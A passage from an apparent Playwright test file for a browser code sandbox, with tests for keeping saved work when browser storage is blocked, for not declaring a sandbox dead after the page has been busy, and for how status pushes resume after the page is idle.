    expect(seen.notices).toHaveLength(1);
    expect(seen.aside).toEqual([expect.stringMatching(/^one /)]);
  });

  test('[SBX61] keeps the newest text where storage is blocked', async ({ page }) => {
    await page.addInitScript(() => {
      Object.defineProperty(IDBFactory.prototype, 'open', {
        value: () => {
          throw new DOMException('blocked', 'SecurityError');
        },
      });
      Object.defineProperty(Storage.prototype, 'setItem', {
        value: () => {
          throw new DOMException('full', 'QuotaExceededError');
        },
      });
    });
    await openPage(page);
    const seen = await page.evaluate(async () => {
      const notices: string[] = [];
      const work = new window.sandboxes.SavedWork({ onNotice: (text) => notices.push(text) });
      work.save('one', { 'main.ts': 'kept' });
      await work.flush();
      return { files: (await work.load('one'))?.files, notices };
    });
    expect(seen.files).toEqual({ 'main.ts': 'kept' });
    expect(seen.notices).toHaveLength(1);
  });
});

test.describe('a page that is not there', () => {
  test('[SBX21] a page that was busy for seconds does not take its sandbox for dead', async ({ page }) => {
    await openPage(page);
    await makeSandbox(page);
    await run(page, COUNTERS);
    const seen = await page.evaluate(async () => {
      const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
      for (let i = 0; i < 3; i++) {
        await wait(300);
        const end = performance.now() + 2_000;
        while (performance.now() < end);
      }
      await wait(600);
      const { client } = window;
      return {
        state: client.state,
        report: client.report,
        call: await client.execute('process.call', { pid: 'b', request: 'value' }),
      };
    });
    expect(seen).toEqual({ state: 'running', report: null, call: 10 });
  });

  test('[SBX41] a page that takes nothing in is sent one push, and the present when it is back', async ({
    page,
  }) => {
    await openPage(page);
    await makeSandbox(page);
    const seen = await page.evaluate(async () => {
      const { client } = window;
      const watch = client.watch('run.status', {});
      await client.execute('program.load', {
        files: {
          'main.ts':
            "import { self, send, receive } from 'otp'\nfor (;;) { send(self(), 1); await receive() }",
        },
      });
      await client.execute('run.start');
      while ((watch.value?.position ?? 0) < 1_000) await new Promise(requestAnimationFrame);
      const parse = JSON.parse;
      const sent: string[] = [];
      JSON.parse = (text: string, ...rest) => {
        sent.push(/^\{"type":"(\w+)"/.exec(text)?.[1] ?? 'answer');
        return parse(text, ...rest) as unknown;
      };
      const shown: number[] = [];
      watch.subscribe(({ playhead }) => shown.push(playhead));
      shown.length = 0;
      const end = performance.now() + 2_000;
      while (performance.now() < end);
      const woken = client.execute('run.status') as Promise<{ position: number }>;
      while (shown.length < 1) await new Promise(requestAnimationFrame);
      const meanwhile = [...sent];
      while (shown.length < 2) await new Promise(requestAnimationFrame);
      JSON.parse = parse;
      return { meanwhile, shown, present: (await woken).position, state: client.state };
    });
    // In those 2 s: one push, and where the run stood ten times a second until the page was known to sleep.
    expect(seen.meanwhile.filter((type) => type === 'views').length).toBeLessThanOrEqual(1);
    expect(seen.meanwhile.filter((type) => type === 'status').length).toBeLessThanOrEqual(7);
    // That push, and the present: nothing of what lay between.
    expect(seen.shown[0]).toBeLessThan(seen.present);
    expect(seen.shown[1]).toBeGreaterThanOrEqual(seen.present);
    expect(seen.state).toBe('running');
  });
});
